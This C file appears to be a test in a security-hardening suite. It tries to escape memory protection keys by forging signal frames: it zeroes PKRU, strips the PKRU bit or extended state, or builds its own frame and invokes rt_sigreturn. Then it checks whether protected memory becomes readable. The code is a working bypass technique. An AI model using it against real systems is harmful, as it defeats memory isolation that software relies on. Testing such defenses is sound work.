/* attack
class: signal
aim: memory
expect: { mpk: contained }
variants:
  - { args: [edited], tries: a changed frame with all rights }
  - { args: [no-bit], tries: a frame without PKRU }
  - { args: [legacy], tries: a frame without extended state }
  - { args: [built], tries: a frame of the program’s own }
*/
/* A forged signal frame that opens all protection keys. How: argument `edited` (a real frame, PKRU set to 0), `no-bit` (PKRU
   left out of the frame, which the kernel takes for 0), `legacy` (no extended state at all), `built` (a frame of our own, by rt_sigreturn). */
#include "attack.h"
#include <cpuid.h>
#include <ucontext.h>

static const char *how;
static unsigned pkru_offset;
static struct { _Alignas(64) unsigned char bytes[32768]; } copy;

static void forge(ucontext_t *u) {
    unsigned char *fp = (unsigned char *)u->uc_mcontext.fpregs;
    uint64_t *present = (uint64_t *)(fp + 512);
    if (strcmp(how, "legacy") == 0) {
        memset(fp + 464, 0, 48); /* The marks that say extended state follows. */
        return;
    }
    if (strcmp(how, "no-bit") == 0) *present &= ~(1ull << 9);
    else {
        *present |= 1ull << 9;
        *(uint32_t *)(fp + pkru_offset) = 0;
    }
}

static void handler(int number, siginfo_t *si, void *context) {
    (void)number;
    (void)si;
    ucontext_t *u = context;
    if (strcmp(how, "built") != 0) {
        forge(u);
        return;
    }
    unsigned char *fp = (unsigned char *)u->uc_mcontext.fpregs;
    uint32_t fp_bytes = *(uint32_t *)(fp + 464 + 4);
    ucontext_t *mine = (ucontext_t *)(copy.bytes + 8);
    memcpy(copy.bytes, (unsigned char *)u - 8, (size_t)(fp - (unsigned char *)u) + 8 < 2048 ? (size_t)(fp - (unsigned char *)u) + 8 : 2048);
    unsigned char *fp_copy = copy.bytes + 4096;
    memcpy(fp_copy, fp, fp_bytes && fp_bytes < 16384 ? fp_bytes : 512);
    mine->uc_mcontext.fpregs = (void *)fp_copy;
    forge(mine);
    __asm__ volatile("mov %0, %%rsp\n mov $15, %%eax\n syscall" : : "r"(mine) : "memory");
}

int main(int argc, char **argv) {
    unsigned a, b, c, d;
    how = argc > 1 ? argv[1] : "edited";
    __cpuid_count(7, 0, a, b, c, d);
    if (!(c & 1 << 4)) not_here("the kernel has not switched protection keys on");
    __cpuid_count(0xd, 9, a, b, c, d);
    pkru_offset = b;
    struct target t[64];
    int n = read_targets(t, 64), escaped = 0;
    if (t[0].own) {
        int key = pkey_alloc(0, PKEY_DISABLE_ACCESS);
        if (key < 0 || pkey_mprotect((void *)t[0].from, 4096, PROT_READ | PROT_WRITE, key)) not_here("no protection key for the stand-in");
    }
    struct sigaction action = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO};
    sigaction(SIGUSR1, &action, NULL);
    catch_faults();
    if (t[0].own && can_load(t[0].from)) not_here("the stand-in is not protected");
    for (int i = 0; i < n; i++) {
        raise(SIGUSR1);
        escaped |= can_load(t[i].from);
    }
    verdict(escaped);
}
